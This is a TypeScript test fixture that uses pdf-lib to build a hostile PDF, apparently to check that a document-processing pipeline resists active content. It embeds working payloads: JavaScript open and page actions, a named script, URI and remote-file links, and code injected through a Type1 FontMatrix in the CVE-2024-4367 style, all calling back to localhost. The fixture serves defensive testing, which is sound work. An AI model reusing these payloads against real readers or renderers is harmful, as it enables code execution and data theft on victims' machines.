// A PDF that tries every way a PDF can run code or call out: a JavaScript OpenAction, a named
// JavaScript, a page-open action, a /URI link, a GoToR to a remote file, and a Type1 font whose
// FontMatrix holds code (the CVE-2024-4367 shape, reached when pages are rendered for OCR). Each
// payload would set globalThis.__docketPwned and call http://127.0.0.1:PORT/TAG.
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

const payload = (port: number, tag: string) =>
  `globalThis.__docketPwned = '${tag}'; fetch('http://127.0.0.1:${port}/${tag}').catch(() => {});`;

/** PDF literal string with its parentheses and backslashes escaped. */
const literal = (text: string) => PDFString.of(text.replaceAll(/([\\()])/g, '\\$1'));

/** Page 1 has a text layer ("Invoice 4711 …"); page 2 is drawn in the hostile font. */
export async function hostilePdf(port: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const ctx = doc.context;
  const helvetica = await doc.embedFont(StandardFonts.Helvetica);

  // Page 1: a text layer, a /URI link and a link to a remote file.
  const page = doc.addPage([612, 792]);
  page.drawText('Invoice 4711 from a hostile sender, total 99.00 EUR', {
    x: 72,
    y: 700,
    size: 12,
    font: helvetica,
  });
  const uriLink = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 690, 400, 715],
    A: { S: 'URI', URI: literal(`http://127.0.0.1:${port}/uri`) },
  });
  const remoteLink = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [72, 650, 400, 675],
    A: {
      S: 'GoToR',
      F: { Type: 'Filespec', FS: 'URL', F: literal(`http://127.0.0.1:${port}/remote`) },
      D: [0, 'Fit'],
    },
  });
  page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(uriLink), ctx.register(remoteLink)]));

  // Page 2: text in a font whose FontMatrix holds code where numbers belong; rendering it for
  // OCR draws its glyphs.
  const page2 = doc.addPage([612, 792]);
  const evilFont = ctx.register(
    ctx.obj({
      Type: 'Font',
      Subtype: 'Type1',
      BaseFont: 'Helvetica',
      FontMatrix: [0.001, 0, 0, 0.001, 0, literal(`1); ${payload(port, 'fontmatrix')}//`)],
    }),
  );
  page2.node.setFontDictionary(PDFName.of('Evil'), evilFont);
  const content = ctx.flateStream('BT /Evil 24 Tf 72 700 Td (Hi) Tj ET');
  page2.node.set(PDFName.of('Contents'), ctx.register(content));

  // A JavaScript action on open and on the page.
  const js = ctx.obj({ S: 'JavaScript', JS: literal(payload(port, 'openaction')) });
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      JavaScript: {
        Names: [
          literal('x'),
          ctx.register(ctx.obj({ S: 'JavaScript', JS: literal(payload(port, 'names')) })),
        ],
      },
    }),
  );
  page.node.set(
    PDFName.of('AA'),
    ctx.obj({ O: ctx.register(ctx.obj({ S: 'JavaScript', JS: literal(payload(port, 'pageopen')) })) }),
  );
  return doc.save();
}
